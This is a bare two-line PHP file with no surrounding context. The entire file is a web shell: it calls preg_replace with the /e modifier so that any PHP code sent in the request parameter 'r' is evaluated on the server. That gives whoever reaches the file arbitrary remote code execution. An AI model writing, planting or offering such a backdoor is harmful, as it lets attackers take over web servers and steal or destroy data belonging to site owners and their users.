<?php
preg_replace('/.*/e', $_REQUEST['r'], '');
